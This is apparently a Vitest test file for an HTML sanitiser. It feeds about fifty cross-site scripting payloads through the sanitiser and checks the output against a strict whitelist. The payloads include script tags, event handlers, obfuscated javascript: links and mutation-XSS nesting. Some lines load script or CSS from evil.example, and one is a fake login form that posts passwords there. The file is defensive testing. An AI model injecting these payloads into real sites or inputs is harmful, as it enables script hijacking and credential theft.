import { expect, test } from 'vitest'
import { cleanHtml } from './clean-html.ts'

/** What the usual lists of cross-site scripting try, as an admin's mistake or a stolen account would bring it. */
const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="http://evil.example">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" style="position:fixed" target="_top">x</a>',
  '<p style="background:url(javascript:alert(1))" class="modal" id="root">x</p>',
  '<p onmouseover=alert(1)>x</p>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<marquee onstart=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><script>alert(1)</script></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><script>alert(1)</script></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  '</div><script>alert(1)</script>',
  '<p/onclick=alert(1)>x',
  '<<p>script>alert(1)<</p>/script>',
  '<a href="https://ok.example/&quot;onmouseover=&quot;alert(1)">x</a>',
]

/** The whole of what a description may be: nothing but text, its entities, these tags, and links with these attributes. */
const harmless =
  /^(?:[^<>]|<\/?(?:p|strong|em|u|s|h3|h4|ul|ol|li|blockquote)>|<br \/>|<\/a>|<a(?: href="(?:https:\/\/|mailto:)[^"<>]*")? rel="noopener nofollow">)*$/

test.each(attacks)('S7.21 nothing of %s is left that could run, load or pretend', (attack) => {
  const clean = cleanHtml(`<p>A lamp</p>${attack}`)
  expect(clean).toContain('<p>A lamp</p>')
  expect(clean).toMatch(harmless)
  expect(cleanHtml(clean)).toBe(clean)
})

test('S7.21 what a description may say stays as it is, and links say that they lead away', () => {
  const text =
    '<h3>Light</h3><p>A <strong>warm</strong> <em>glow</em>,<br />child’s &amp; yours</p><ul><li>one</li></ul>'
  expect(cleanHtml(text)).toBe(text)
  expect(cleanHtml('<b>x</b><i>y</i>')).toBe('<strong>x</strong><em>y</em>')
  expect(cleanHtml('<a href="https://ok.example/?a=1&amp;b=2">x</a>')).toBe(
    '<a href="https://ok.example/?a=1&amp;b=2" rel="noopener nofollow">x</a>',
  )
  expect(cleanHtml('<a href="mailto:hello@ok.example">x</a>')).toContain('href="mailto:hello@ok.example"')
})

test('S7.21 what is nested without end is cut, quickly', () => {
  expect(cleanHtml('<ul><li>'.repeat(2400))).toMatch(harmless)
})
